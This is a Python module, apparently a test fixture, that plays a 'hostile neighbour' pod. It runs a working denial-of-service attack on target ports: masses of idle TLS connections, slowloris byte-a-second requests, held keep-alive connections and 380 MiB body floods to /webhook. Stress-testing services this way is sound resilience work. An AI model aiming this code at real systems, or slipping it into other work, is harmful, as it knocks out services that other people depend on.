"""A hostile neighbour: all that a pod can do to the ports of another, as long as wanted."""

from __future__ import annotations

import asyncio
import os
import ssl
import threading
from collections import Counter
from collections.abc import Coroutine, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Any, Final

Address = tuple[str, int]

_IDLE: Final = 600
_SLOW: Final = 40
_KEPT: Final = 300
_FLOODS: Final = 2
_BODY_BYTES: Final = 380 * 1024 * 1024
_FAULTS: Final = (OSError, asyncio.IncompleteReadError, TimeoutError)
_REQUEST: Final = "{verb} {path} HTTP/1.1\r\nHost: x\r\n{headers}\r\n"


@dataclass(slots=True)
class Attack:
    """Runs in a thread of its own. `done` counts what was opened and sent, by kind."""

    targets: Sequence[Address]
    done: Counter[str] = field(default_factory=Counter)

    async def run(self, stop: threading.Event) -> None:
        """All kinds against all targets until stopped."""
        each: list[Coroutine[Any, Any, None]] = []
        for target in self.targets:
            each += [self._repeat(self._idle, target) for _ in range(_IDLE)]
            each += [self._repeat(self._slow, target) for _ in range(_SLOW)]
            each += [self._repeat(self._kept, target) for _ in range(_KEPT)]
            each += [self._repeat(self._flood, target) for _ in range(_FLOODS)]
        tasks = [asyncio.create_task(attack) for attack in each]
        while not stop.is_set():
            await asyncio.sleep(0.2)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _repeat(self, attack: Any, target: Address) -> None:
        while True:
            with suppress(*_FAULTS):
                await attack(target)
            await asyncio.sleep(0.5)

    async def _idle(self, target: Address) -> None:
        """A connection, with TLS where the port speaks it, that never asks anything."""
        _, writer = await _connect(target)
        self.done["idle"] += 1
        await _hold(writer)

    async def _slow(self, target: Address) -> None:
        """A request that comes a byte a second."""
        _, writer = await asyncio.open_connection(*target)
        self.done["slow"] += 1
        try:
            for byte in _REQUEST.format(verb="GET", path="/metrics", headers="X: y\r\n" * 20):
                writer.write(byte.encode())
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.close()

    async def _kept(self, target: Address) -> None:
        """A request that is answered, and a connection that is kept."""
        _, writer = await _connect(target)
        writer.write(_REQUEST.format(verb="GET", path="/healthz", headers="").encode())
        self.done["kept"] += 1
        await _hold(writer)

    async def _flood(self, target: Address) -> None:
        """A body of 380 MiB."""
        _, writer = await _connect(target)
        headers = f"Content-Type: application/json\r\nContent-Length: {_BODY_BYTES}\r\n"
        writer.write(_REQUEST.format(verb="POST", path="/webhook", headers=headers).encode())
        part = b" " * 65536
        try:
            for _ in range(_BODY_BYTES // len(part)):
                writer.write(part)
                await writer.drain()
                self.done["KiB of bodies"] += len(part) // 1024
                await asyncio.sleep(0)
        finally:
            writer.close()


async def _connect(target: Address) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        return await asyncio.open_connection(*target, ssl=context, ssl_handshake_timeout=20)
    except ssl.SSLError:
        return await asyncio.open_connection(*target)


async def _hold(writer: asyncio.StreamWriter) -> None:
    """Keep a connection until the other side ends it, or for a minute."""
    try:
        with suppress(TimeoutError):
            await asyncio.wait_for(writer.wait_closed(), 60)
    finally:
        writer.close()


@contextmanager
def attack(*targets: Address) -> Iterator[Attack]:
    """Attack these addresses while the context lasts."""
    one, stop = Attack(targets), threading.Event()

    def run() -> None:
        os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), 10)  # its victims share our CPUs
        asyncio.run(one.run(stop))

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    try:
        yield one
    finally:
        stop.set()
        thread.join(30)
